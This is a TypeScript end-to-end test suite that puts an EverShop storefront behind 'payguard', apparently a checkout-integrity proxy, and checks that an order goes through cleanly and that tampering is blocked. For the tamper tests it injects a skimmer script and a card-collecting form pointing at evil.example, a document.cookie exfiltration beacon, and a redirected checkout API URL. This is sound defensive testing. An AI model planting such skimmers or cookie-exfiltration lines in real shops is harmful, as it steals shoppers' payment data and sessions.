/**
 * A real storefront in the suite (issue 18 item 7): EverShop 2.2.1 from the npm registry, on
 * PostgreSQL, with its demo catalogue and cash on delivery (test/storefront/evershop/shop.ts),
 * put behind payguard the way an operator does it, with payguard's real CLI:
 *
 *   1. `payguard inventory` against the shop itself, two shopper sessions of three renderings each,
 *      after the steps that fill a cart (test/storefront/evershop/steps.yaml), so the draft reaches
 *      the cart and the checkout and drafts EverShop's per-cart `eContext` script as a template;
 *   2. the review a person does (every `why: TODO` justified, the whole shop in block mode, the
 *      release manifest from `payguard pin` of the build), `payguard keygen`, `payguard sign`,
 *      `payguard serve`;
 *   3. a real Chromium through payguard: home → search → product → add to cart → checkout →
 *      address → cash on delivery → place order. Nothing blocked, nothing failed, no CSP refusal;
 *   4. the shop tampered with, each time caught: its checkout template (a skimmer script and a form
 *      posting elsewhere), its inline state (a statement added to eContext, a foreign URL in it),
 *      and one byte of its checkout bundle.
 *
 * Slow (an npm install and a webpack build the first time, cached in .storefront/), so it has its
 * own script, `npm run test:storefront`, which .ci/run calls after `npm test`.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isMap, isSeq, parseDocument, type YAMLMap } from 'yaml';
import { servePayguard, keygen, type PayguardKeys, type RunningPayguard } from '../e2e/payguard.js';
import { sumByLabel, total } from '../e2e/metrics.js';
import { launchChromium } from '../helpers/chromium.js';
import { buildCliAsync, runPayguard, runProcess } from '../helpers/cli.js';
import { freePort } from '../helpers/upstreams.js';
import { startEverShop, type RunningEverShop } from './evershop/shop.js';

const STEPS_FILE = fileURLToPath(new URL('./evershop/steps.yaml', import.meta.url));
const EVIL = 'https://evil.example';

/** What the shopper types at the checkout. */
const SHOPPER = { email: 'shopper@example.com', name: 'Jane Shopper', telephone: '5550100', address: '1 Main St', city: 'Springfield', postcode: '62701' };

type Payguard = Omit<RunningPayguard, 'mode'>;

/** What one Chromium context saw: every failed load, every error status, every CSP refusal. */
interface Observed {
  readonly failed: string[];
  readonly errorStatuses: string[];
  readonly refusals: string[];
  readonly requests: string[];
}

describe('EverShop 2.2.1 behind payguard, as an operator runs it (issue 18 item 7)', () => {
  let shop: RunningEverShop;
  let site: string;
  let port: number;
  let work: string;
  let keys: PayguardKeys;
  let guard: Payguard | undefined;
  let browser: Browser;
  const timings: Record<string, number | string> = {};

  beforeAll(async () => {
    let started = Date.now();
    await buildCliAsync();
    // payguard's public port is chosen first: EverShop writes its public origin into its pages.
    port = await freePort();
    site = `http://127.0.0.1:${port}`;
    shop = await startEverShop({ publicOrigin: site });
    timings['shop ready (install, build, postgres, start, seed)'] = Date.now() - started;
    work = mkdtempSync(join(tmpdir(), 'payguard-storefront-'));
    started = Date.now();
    browser = await launchChromium();
    timings['chromium'] = Date.now() - started;
  }, 1_800_000);

  afterAll(async () => {
    await browser?.close();
    await guard?.stop();
    await shop?.stop();
    // PAYGUARD_STOREFRONT_KEEP=1 keeps the draft, the reviewed policy and payguard's log for reading.
    if (work && process.env['PAYGUARD_STOREFRONT_KEEP']) {
      writeFileSync(join(work, 'payguard.log'), guard?.output() ?? '');
      console.log(`kept ${work}`);
    } else if (work) rmSync(work, { recursive: true, force: true });
    if (shop) {
      const t = shop.timings;
      const ms = (v: number | 'cached'): string => (v === 'cached' ? 'cached' : `${(v / 1000).toFixed(1)} s`);
      // The figures the issue asks for, in the test's output.
      console.log(
        `EverShop: npm ci ${ms(t.install)}, build ${ms(t.build)}, postgres ${ms(t.postgres)}, first start ${ms(t.firstStart)}, seed ${ms(t.seed)}, ` +
          `restarts ${t.restarts.map((r) => ms(r)).join(' ') || 'none'}; ` +
          Object.entries(timings).map(([k, v]) => `${k} ${typeof v === 'number' ? ms(v) : v}`).join(', '),
      );
    }
  });

  let draftFile: string;
  let policyFile: string;

  it('drafts a policy from two shopper sessions that reach the cart and the checkout, eContext as a template', async () => {
    const started = Date.now();
    draftFile = join(work, 'payguard-draft.yaml');
    const origin = shop.origin;
    const inventory = await runPayguard(
      ['inventory', `${origin}/`, `${origin}${shop.product.path}`, `${origin}/cart`, `${origin}/checkout`,
        '--site', site, '--steps', STEPS_FILE, '--sessions', '2', '--renderings', '3', '--crawl', '12', '--out', draftFile],
      { cwd: work, timeoutMs: 600_000 },
    );
    timings['inventory'] = Date.now() - started;
    expect(inventory.code, inventory.stderr).toBe(0);
    // Every step of every session worked, and no page failed.
    expect(inventory.stderr).toBe('');
    const draft = parseDocument(readFileSync(draftFile, 'utf8')).toJS() as DraftPolicy;
    // The checkout itself was rendered (with an empty cart it redirects to /cart): its bundle was seen.
    expect(Object.keys(draft.firstParty?.scripts ?? {}).filter((path) => path.startsWith('/assets/frontStore/checkout/'))).toHaveLength(1);
    const templates = (draft.allow.inline ?? []).filter((e) => e.template !== undefined);
    expect(templates.map((e) => e.template!.slice(0, 16))).toEqual(['var eContext = {']);
    // The per-cart and per-page values are JSON slots; the keys around them stay written out.
    expect(Object.values(templates[0]!.slots ?? {}).every((slot) => slot.type === 'json')).toBe(true);
    // No list but inline: the pages load and carry only the shop's own origin.
    expect(Object.keys(draft.allow).filter((list) => list !== 'inline')).toEqual([]);
  });

  it('refuses to sign the draft, and signs and serves it once reviewed, the whole shop in block mode', async () => {
    keys = await keygen(work);
    const unsigned = await runPayguard(['sign', draftFile, '--secret-key', keys.secretKey], { cwd: work });
    expect(unsigned.code).not.toBe(0);
    expect(unsigned.stderr).toMatch(/TODO/);

    policyFile = join(work, 'evershop.yaml');
    writeFileSync(policyFile, review(readFileSync(draftFile, 'utf8'), await localePatchHash()));
    // The release manifest: every script and JSON file of the build, served by EverShop at /assets/.
    const pinned = await runPayguard(['pin', shop.buildDir, '--base', '/assets/', '--policy', policyFile], { cwd: work });
    expect(pinned.code, pinned.stderr).toBe(0);
    const signed = await runPayguard(['sign', policyFile, '--secret-key', keys.secretKey], { cwd: work });
    expect(signed.code, signed.stderr).toBe(0);
    // The signature is minisign's: the real binary verifies it, as a release check would.
    const verified = await runProcess('minisign', ['-V', '-m', policyFile, '-p', keys.publicKey]);
    expect(verified.code, verified.stderr).toBe(0);
    const started = Date.now();
    guard = await servePayguard({ policyFile, publicKey: keys.publicKey, upstream: shop.origin, stateDir: join(work, 'state'), port });
    timings['payguard serve ready'] = Date.now() - started;
  });

  it('a shopper in Chromium places an order through payguard: nothing blocked, no failed load, no CSP refusal', async () => {
    const started = Date.now();
    const context = await newShopperContext();
    const observed = await observe(context);
    try {
      const page = await context.newPage();
      const successUrl = await placeOrder(page).catch(async (err: Error) => {
        // What the shopper's browser and payguard saw, for the one reading the failure.
        const screenshot = join(tmpdir(), `payguard-storefront-${Date.now()}.png`);
        await page.screenshot({ path: screenshot, fullPage: true }).catch(() => undefined);
        throw new Error(`${err.message}\nat ${page.url()} (screenshot ${screenshot})\nobserved: ${JSON.stringify({ ...observed, requests: observed.requests.slice(-40) }, null, 1)}\npayguard:\n${verdictLog()}`);
      });
      const orderUuid = new URL(successUrl).pathname.split('/').pop()!;
      await page.getByText(/thank you/i).first().waitFor();
      // The order is in the shop's database: cash on delivery, the shopper's address.
      const rows = await shop.query(`SELECT o.payment_method, o.customer_email, a.city FROM "order" o JOIN order_address a ON a.order_address_id = o.shipping_address_id WHERE o.uuid = '${orderUuid}'`);
      expect(rows).toEqual([['cod', SHOPPER.email, SHOPPER.city]]);
    } finally {
      await context.close();
    }
    timings['shopper order'] = Date.now() - started;
    expect(observed.failed, 'failed loads').toEqual([]);
    expect(observed.errorStatuses, 'responses >= 400').toEqual([]);
    expect(observed.refusals, 'CSP refusals').toEqual([]);
    // payguard saw the pages and blocked nothing.
    const metrics = await guard!.metricsText();
    expect(total(sumByLabel(metrics, 'payguard_blocked_responses_total', 'reason')), verdictLog()).toBe(0);
    expect(total(sumByLabel(metrics, 'payguard_violations_total', 'kind')), verdictLog()).toBe(0);
    // Home, search, product, cart, checkout and the order's page were each verified and clean.
    const served = sumByLabel(metrics, 'payguard_responses_total', 'verdict');
    expect(served.get('clean') ?? 0).toBeGreaterThanOrEqual(6);
  });

  // ---- Tampering: each on this run's copy of the build, restored afterwards. ----

  it('blocks a checkout whose template gained a skimmer script and a form posting elsewhere (the 2019 incident)', async () => {
    const injected = `<script src="${EVIL}/skim.js"></script><form action="${EVIL}/collect" method="post"><input name="card"></form>`;
    await withServerBundle(
      (bundle) =>
        replaceOnce(bundle, 'return `<!DOCTYPE html><html id="root" lang="${langCode}">${source}</html>`;', `return \`<!DOCTYPE html><html id="root" lang="\${langCode}">\${route.id === 'checkout' ? source.replace('</head>', ${JSON.stringify(injected)} + '</head>') : source}</html>\`;`),
      async () => {
        expect(await checkoutDirect()).toContain(`${EVIL}/skim.js`);
        await expectCheckoutBlocked(['foreign-script', 'foreign-form-action']);
      },
    );
  });

  it('blocks a checkout whose inline state (eContext) gained a statement', async () => {
    await withServerBundle(
      (bundle) => replaceOnce(bundle, 'appContext: `var eContext = ${contextData}`', `appContext: route.id === 'checkout' ? \`var eContext = \${contextData};(new Image).src="${EVIL}/c?"+document.cookie\` : \`var eContext = \${contextData}\``),
      async () => {
        expect(await checkoutDirect()).toContain(`(new Image).src="${EVIL}/c?"`);
        await expectCheckoutBlocked(['inline-code']);
      },
    );
  });

  it("blocks a checkout whose inline state sends the order to a foreign host (the checkout API's URL in eContext)", async () => {
    // EverShop's checkout posts the order to the checkoutApi URL it finds in eContext
    // ("/api/carts/<id>/checkout"): an intruder who changes that value gets every address, and
    // with a card gateway the card too. The rest of the script is unchanged: the URL is in a slot.
    const tampered = `${EVIL}/api/carts/`;
    await withServerBundle(
      (bundle) => replaceOnce(bundle, 'appContext: `var eContext = ${contextData}`', `appContext: \`var eContext = \${route.id === 'checkout' ? contextData.split('"/api/carts/').join(${JSON.stringify(`"${tampered}`)}) : contextData}\``),
      async () => {
        expect(await checkoutDirect()).toContain(`"${tampered}`);
        await expectCheckoutBlocked(['inline-template-slot']);
      },
    );
  });

  it('refuses a checkout bundle with one byte changed, and the checkout does not run it', async () => {
    const name = checkoutBundleName();
    const file = join(shop.buildDir, 'frontStore', 'checkout', 'client', name);
    const original = readFileSync(file);
    const tampered = Buffer.from(original);
    // One byte: a letter of the first string literal's text.
    const at = tampered.indexOf('"use strict"') >= 0 ? tampered.indexOf('"use strict"') + 1 : tampered.indexOf('function') + 1;
    tampered[at] = tampered[at] === 0x75 ? 0x55 : 0x75;
    writeFileSync(file, tampered);
    try {
      const direct = Buffer.from(await (await fetch(`${shop.origin}/assets/frontStore/checkout/client/${name}`)).arrayBuffer());
      expect(direct.equals(tampered)).toBe(true);
      const before = await blockedScripts();
      const context = await newShopperContext();
      const observed = await observe(context);
      try {
        const page = await context.newPage();
        await fillCart(context);
        const bundle = page.waitForResponse((r) => r.url().includes(`/client/${name}`));
        const response = await page.goto(`${site}/checkout`);
        expect(response?.status()).toBe(200);
        expect((await bundle).status()).toBe(502);
      } finally {
        await context.close();
      }
      expect(observed.errorStatuses.some((s) => s.includes(name))).toBe(true);
      expect(await blockedScripts()).toBeGreaterThan(before);
      expect(guard!.output()).toMatch(/script-pin-mismatch/);
    } finally {
      writeFileSync(file, original);
    }
  });

  it('serves the untampered checkout again after every tamper was undone', async () => {
    const context = await newShopperContext();
    const observed = await observe(context);
    try {
      const page = await context.newPage();
      await fillCart(context);
      expect((await page.goto(`${site}/checkout`))?.status()).toBe(200);
      await page.getByPlaceholder('Enter your email').waitFor();
    } finally {
      await context.close();
    }
    expect(observed.errorStatuses).toEqual([]);
    expect(observed.refusals).toEqual([]);
  });

  // ---- The shopper, and what a context observed. ----

  /** A fresh shopper (own cookies). Stripe.js, which EverShop's checkout bundle loads, comes from a stand-in: the suite is offline. */
  async function newShopperContext(): Promise<BrowserContext> {
    const context = await browser.newContext();
    await context.route('https://js.stripe.com/**', (route) => route.fulfill({ contentType: 'text/javascript', body: '/* Stripe.js stand-in: the suite runs without network */' }));
    return context;
  }

  async function observe(context: BrowserContext): Promise<Observed> {
    const observed: Observed = { failed: [], errorStatuses: [], refusals: [], requests: [] };
    await context.exposeBinding('__payguardRefused', (_source, line: string) => observed.refusals.push(line));
    await context.addInitScript(`addEventListener('securitypolicyviolation', (e) => globalThis.__payguardRefused(e.effectiveDirective + ' ' + e.blockedURI + ' on ' + location.pathname))`);
    context.on('request', (r) => observed.requests.push(`${r.method()} ${r.url()}`));
    context.on('requestfailed', (r) => {
      // A navigation cancels what the page it leaves was still loading: no failed load.
      if (r.failure()?.errorText === 'net::ERR_ABORTED' && r.resourceType() !== 'document') return;
      observed.failed.push(`${r.resourceType()} ${r.url()} ${r.failure()?.errorText}`);
    });
    context.on('response', (r) => {
      if (r.status() >= 400) observed.errorStatuses.push(`${r.status()} ${r.request().resourceType()} ${r.url()}`);
    });
    return observed;
  }

  /** Home → search → product → White → add to cart → cart → checkout → address, shipping, cash on delivery → place order. */
  async function placeOrder(page: Page): Promise<string> {
    await page.goto(`${site}/`);
    await page.getByRole('link', { name: 'Search' }).click();
    await page.getByPlaceholder('Search').fill('Coffee Cup');
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/search\?/);
    await page.locator(`a[href$="${shop.product.path}"]`).first().click();
    await page.waitForURL(`**${shop.product.path}`);
    await page.getByRole('button', { name: 'White', exact: true }).click();
    await page.waitForURL(/color=/);
    const added = page.waitForResponse((r) => r.url().endsWith('/api/cart/mine/items') && r.request().method() === 'POST');
    await page.getByRole('button', { name: 'Add to cart' }).click();
    expect((await added).status()).toBe(200);
    await page.goto(`${site}/cart`);
    await page.getByRole('button', { name: /checkout/i }).first().click();
    await page.waitForURL(`${site}/checkout`);
    await page.getByPlaceholder('Enter your email').fill(SHOPPER.email);
    await page.getByPlaceholder('Full name').fill(SHOPPER.name);
    await page.getByPlaceholder('Telephone').fill(SHOPPER.telephone);
    await page.getByPlaceholder('Address', { exact: true }).fill(SHOPPER.address);
    await page.getByPlaceholder('City').fill(SHOPPER.city);
    await page.getByRole('combobox', { name: 'Country' }).click();
    await page.getByRole('option', { name: 'United States' }).click();
    await page.getByRole('combobox', { name: 'Province' }).click();
    await page.getByRole('option', { name: 'Illinois' }).click();
    // Each choice is saved to the cart by the checkout's own API calls, and the cart is read back:
    // the next click waits for them (EverShop re-renders the form meanwhile).
    const quoted = page.waitForResponse((r) => r.url().endsWith('/api/graphql') && (r.request().postData() ?? '').includes('GetCartShippingMethods'));
    await page.getByPlaceholder('Postcode').fill(SHOPPER.postcode);
    await page.getByPlaceholder('Postcode').blur();
    await quoted;
    const chosen = page.waitForResponse((r) => r.url().endsWith('/shippingMethods') && r.request().method() === 'POST');
    const reread = page.waitForResponse((r) => r.url().endsWith('/api/graphql'));
    await page.getByText('Standard delivery').click();
    expect((await chosen).status()).toBe(200);
    await reread;
    await page.waitForFunction("document.querySelector('input[name=shippingMethod]')?.value !== ''");
    await page.getByText('Cash On Delivery').first().click();
    const placed = page.waitForResponse((r) => /\/api\/carts\/[^/]+\/checkout$/.test(r.url()) && r.request().method() === 'POST');
    await page.getByRole('button', { name: 'Place Order' }).click();
    expect((await placed).status()).toBe(200);
    await page.waitForURL(/\/checkout\/success\//);
    return page.url();
  }

  /** A cart in this context's session, the shortcut the tamper checks take (the shopper's path is tested above). */
  async function fillCart(context: BrowserContext): Promise<void> {
    await context.request.get(`${site}${shop.product.path}`);
    const added = await context.request.post(`${site}/api/cart/mine/items`, { data: { sku: shop.product.sku, qty: 1 } });
    expect(added.status()).toBe(200);
  }

  /** The checkout as the shop itself serves it (no payguard), to a shopper with a cart: the tamper is live. */
  async function checkoutDirect(): Promise<string> {
    const context = await browser.newContext();
    try {
      await context.request.get(`${shop.origin}${shop.product.path}`);
      await context.request.post(`${shop.origin}/api/cart/mine/items`, { data: { sku: shop.product.sku, qty: 1 } });
      const checkout = await context.request.get(`${shop.origin}/checkout`, { maxRedirects: 0 });
      expect(checkout.status()).toBe(200);
      return await checkout.text();
    } finally {
      await context.close();
    }
  }

  /** The checkout through payguard is the block page (502), counted under one of `reasons`, and nothing of it reached the browser. */
  async function expectCheckoutBlocked(reasons: readonly string[]): Promise<void> {
    const before = sumByLabel(await guard!.metricsText(), 'payguard_blocked_responses_total', 'reason');
    const context = await newShopperContext();
    const observed = await observe(context);
    try {
      const page = await context.newPage();
      await fillCart(context);
      const response = await page.goto(`${site}/checkout`);
      expect(response?.status()).toBe(502);
    } finally {
      await context.close();
    }
    expect(observed.requests.filter((r) => r.includes('evil.example'))).toEqual([]);
    const after = sumByLabel(await guard!.metricsText(), 'payguard_blocked_responses_total', 'reason');
    const counted = [...after].filter(([reason, n]) => n > (before.get(reason) ?? 0)).map(([reason]) => reason);
    expect(counted.length, verdictLog()).toBe(1);
    expect(reasons, verdictLog()).toContain(counted[0]);
    // The log names every finding: each tamper is there.
    const line = verdictLog().split('\n').filter((l) => l.startsWith('/checkout ')).pop() ?? '';
    for (const reason of reasons) expect(line, verdictLog()).toContain(reason);
  }

  /** Edits this run's server bundle (EverShop imports it once: restart), runs `check`, then restores it and restarts. */
  async function withServerBundle(edit: (bundle: string) => string, check: () => Promise<void>): Promise<void> {
    const file = join(shop.buildDir, 'frontStore', 'server', 'index.js');
    const original = readFileSync(file, 'utf8');
    writeFileSync(file, edit(original));
    try {
      await shop.restart();
      await check();
    } finally {
      writeFileSync(file, original);
      await shop.restart();
    }
  }

  function checkoutBundleName(): string {
    const assets = JSON.parse(readFileSync(join(shop.buildDir, 'frontStore', 'checkout', 'client', 'index.json'), 'utf8')) as { js: string[] };
    const names = readdirSync(join(shop.buildDir, 'frontStore', 'checkout', 'client')).filter((f) => f.endsWith('.js') && f !== 'entry.js');
    const name = assets.js.map((src) => src.split('/').pop()!).find((n) => names.includes(n));
    if (!name) throw new Error(`no checkout bundle in ${JSON.stringify(assets.js)}`);
    return name;
  }

  async function blockedScripts(): Promise<number> {
    return sumByLabel(await guard!.metricsText(), 'payguard_blocked_responses_total', 'reason').get('tampered-script') ?? 0;
  }

  /** payguard's violation and refusal log lines, short: `path verdict event:reasons`. */
  function verdictLog(): string {
    const lines: string[] = [];
    for (const line of (guard?.output() ?? '').split('\n')) {
      if (!line.startsWith('{')) continue;
      let entry;
      try {
        entry = JSON.parse(line) as { event?: string; path?: string; verdict?: string; reason?: string; findings?: { reason?: string; url?: string }[] };
      } catch {
        continue; // not a log line
      }
      if (entry.event !== 'violation' && entry.event !== 'refusal') continue;
      const findings = (entry.findings ?? []).map((f) => `${f.reason}${f.url ? ` ${f.url}` : ''}`).join(', ');
      lines.push(`${entry.path} ${entry.verdict} ${entry.event}:${entry.reason ?? ''} ${findings}`);
    }
    return lines.join('\n');
  }

  /** The hash of EverShop's X-Locale fetch patch, read off the home page as a reviewer would. */
  async function localePatchHash(): Promise<string> {
    const html = await (await fetch(`${shop.origin}/`)).text();
    const patch = /<script>(\(function \(\) \{[\s\S]*?__localeFetchPatched[\s\S]*?)<\/script>/.exec(html)?.[1];
    if (!patch) throw new Error('no X-Locale fetch patch on the home page');
    return `sha256-${createHash('sha256').update(patch).digest('base64')}`;
  }
});

interface DraftPolicy {
  allow: Record<string, { template?: string; hash?: string; slots?: Record<string, { type: string }>; why: string }[] | undefined>;
  firstParty?: { scripts?: Record<string, string> };
}

/**
 * What the person reviewing the draft does: the whole shop in block mode; each entry justified,
 * or refused if it is not what EverShop's pages are known to need; Stripe.js added, which the
 * checkout bundle loads itself (no page names it, so no crawl sees it: a report-mode run's CSP
 * reports do); the firstParty section is then rewritten by `payguard pin`.
 */
function review(draftText: string, localePatch: string): string {
  const doc = parseDocument(draftText);
  doc.set('routes', doc.createNode([{ path: '/**', mode: 'block' }]));
  const unknown: string[] = [];
  const allow = doc.get('allow') as YAMLMap;
  for (const pair of allow.items) {
    const list = String(pair.key);
    if (!isSeq(pair.value)) continue;
    for (const entry of pair.value.items) {
      if (!isMap(entry)) continue;
      const json = entry.toJSON() as { template?: string; hash?: string };
      let why: string | undefined;
      if (list === 'inline' && json.template?.startsWith('var eContext = {')) {
        why = "EverShop's page state (eContext): the visitor's cart, the page's data and GraphQL results, rendered into every page; each slot is JSON whose URLs must be the shop's";
      } else if (list === 'inline' && json.hash === localePatch) {
        why = "EverShop's fetch patch that sends X-Locale with same-origin requests, the same bytes on every page";
      }
      if (why) entry.set('why', why);
      else unknown.push(`${list}: ${JSON.stringify(json).slice(0, 160)}`);
    }
  }
  if (unknown.length > 0) throw new Error(`the draft has entries a reviewer of EverShop's pages cannot justify:\n${unknown.join('\n')}`);
  allow.set('script', doc.createNode([{ url: 'https://js.stripe.com/v3', why: "Stripe.js: EverShop's checkout bundle loads it (@stripe/stripe-js) on every checkout, whether or not Stripe payment is on" }]));
  return doc.toString();
}

function replaceOnce(text: string, find: string, replacement: string): string {
  const at = text.indexOf(find);
  if (at < 0 || text.indexOf(find, at + 1) >= 0) throw new Error(`the server bundle no longer has exactly one ${JSON.stringify(find)}: EverShop changed, adapt the tamper`);
  return text.slice(0, at) + replacement + text.slice(at + find.length);
}
